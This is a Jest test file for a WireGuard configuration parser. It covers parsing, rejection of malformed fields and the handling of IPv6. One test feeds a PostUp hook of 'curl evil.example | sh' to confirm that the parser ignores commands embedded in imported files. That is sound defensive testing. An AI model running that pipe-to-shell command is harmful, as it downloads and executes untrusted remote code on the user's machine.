import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';

import { ConfigurationError } from '../../kit/errors.ts';

import { setPeer } from './uapi.ts';
import { isHost, parseWireguardFile } from './wireguard-config.ts';

const key = Buffer.alloc(32, 7).toString('base64');
const other = Buffer.alloc(32, 9).toString('base64');

function file(changes: Readonly<Record<string, string | undefined>> = {}): string {
  const fields = {
    PrivateKey: key,
    Address: '10.64.0.9/32, fc00:bbbb::9/128',
    DNS: '10.64.0.1',
    PublicKey: other,
    AllowedIPs: '0.0.0.0/0, ::/0',
    Endpoint: '198.18.0.2:51820',
    ...changes,
  };
  const line = ([name, value]: [string, string | undefined]): string =>
    value === undefined ? '' : `${name} = ${value}\n`;
  const all = Object.entries(fields);
  const isPeer = ([name]: [string, unknown]): boolean =>
    ['PublicKey', 'PresharedKey', 'AllowedIPs', 'Endpoint', 'PersistentKeepalive'].includes(name);
  return `# from the provider\n[Interface]\n${all
    .filter((entry) => !isPeer(entry))
    .map(line)
    .join('')}\n[Peer]\n${all.filter(isPeer).map(line).join('')}`;
}

describe('a provider’s file', () => {
  it('is read', () => {
    expect(parseWireguardFile(file({ MTU: '1380', PresharedKey: other }))).toEqual({
      ours: {
        privateKey: key,
        addresses: ['10.64.0.9/32'],
        addresses6: ['fc00:bbbb::9/128'],
        dns: ['10.64.0.1'],
        mtu: 1380,
      },
      server: { name: '198.18.0.2', host: '198.18.0.2', port: 51_820, publicKey: other, presharedKey: other },
      ignored: [],
    });
  });

  it('is read with Windows’ line ends, without prefix lengths, in any case', () => {
    const text = file({ Address: '10.64.0.9' }).toLowerCase().replaceAll(key.toLowerCase(), key);
    const { ours } = parseWireguardFile(text.replaceAll(other.toLowerCase(), other).replaceAll('\n', '\r\n'));
    expect(ours.addresses).toEqual(['10.64.0.9/32']);
  });

  it.each(['0.0.0.0/0', '0.0.0.0/0, ::/1', '0.0.0.0/0, 2000::/3'])(
    'that takes not all of IPv6 (%s) leaves it out, and says so',
    (AllowedIPs) => {
      const { ours, ignored } = parseWireguardFile(file({ AllowedIPs }));
      expect(ours.addresses6).toEqual([]);
      expect(ignored).toEqual([expect.stringContaining('AllowedIPs has no ::/0')]);
    },
  );

  it('may name all of IPv6 in two halves, an address of it without a length, and a resolver of it', () => {
    const { ours, ignored } = parseWireguardFile(
      file({
        AllowedIPs: '0.0.0.0/0, ::/1, 8000::/1',
        Address: '10.0.0.2, FD00::2',
        DNS: '10.0.0.1, fd00::1',
      }),
    );
    expect(ours).toMatchObject({ addresses6: ['FD00::2/128'], dns: ['10.0.0.1'] });
    expect(ignored).toEqual(['A DNS by IPv6 is left out: the one by IPv4 is asked.']);
  });

  it('has nothing in it that is run', () => {
    const { ignored } = parseWireguardFile(file({ PostUp: 'curl evil.example | sh', Table: 'off' }));
    expect(ignored).toEqual(
      expect.arrayContaining([expect.stringMatching(/^PostUp \(line \d+\) is not done/)]),
    );
  });

  it.each([
    [{ PrivateKey: undefined }, 'has no PrivateKey'],
    [{ PrivateKey: 'short' }, /PrivateKey \(line 3 .*5 characters/],
    [{ PublicKey: key.slice(1) }, 'is no key: 43 characters'],
    [{ PresharedKey: 'x' }, 'PresharedKey'],
    [{ Address: 'fc00::1/128' }, 'has no IPv4 Address'],
    [{ Address: '10.0.0.1/33' }, 'holds what is no address'],
    [{ Address: '10.0.0.1, fd00::1/129' }, 'holds what is no address'],
    [{ Address: '10.0.0.1, fe80::1%eth0/64' }, 'holds what is no address'],
    [{ DNS: undefined }, 'has no IPv4 DNS'],
    [{ Endpoint: undefined }, 'has no Endpoint'],
    [{ Endpoint: '2001:db8::1:51820' }, 'an IPv6 address is in brackets'],
    [{ Endpoint: '[10.0.0.1]:51820' }, 'is to be name:port'],
    [{ Endpoint: 'vpn.example.org:0' }, 'is to be name:port'],
    [{ Endpoint: '999.1.1.1:51820' }, 'is to be name:port'],
    [{ MTU: '100' }, 'MTU'],
  ])('%j is answered', (changes, sentence) => {
    expect(() => parseWireguardFile(file(changes))).toThrow(sentence);
  });

  it('may have an endpoint by IPv6', () => {
    const { server } = parseWireguardFile(file({ Endpoint: '[2001:db8::1]:51820' }));
    expect(server).toMatchObject({ host: '2001:db8::1', port: 51_820 });
    expect(setPeer(key, server, server.host)).toContain('\nendpoint=[2001:db8::1]:51820\n');
  });

  it('has one peer', () => {
    expect(() => parseWireguardFile(`${file()}[Peer]\nPublicKey = ${other}\n`)).toThrow('2 times [Peer]');
  });

  it('is a mistake or a tunnel, whatever it holds', () => {
    const word = fc.oneof(
      fc.constantFrom(
        '[Interface]',
        '[Peer]',
        'PrivateKey',
        '=',
        '\n',
        'Endpoint',
        ':',
        key,
        '10.0.0.1',
        ',',
        '#',
      ),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 40 }), (words) => {
        try {
          expect(parseWireguardFile(words.join(' ')).ours.addresses.length).toBeGreaterThan(0);
        } catch (error) {
          expect(error).toBeInstanceOf(ConfigurationError);
          expect(String(error)).not.toContain(key);
        }
      }),
    );
  });
});

it.each([
  ['vpn.example.org', true],
  ['10.0.0.1', true],
  ['10.0.0', false],
  ['-x.example', false],
  ['a b', false],
  ['', false],
  ['x'.repeat(64), false],
])('%j is a host: %j', (text, expected) => {
  expect(isHost(text)).toBe(expected);
});
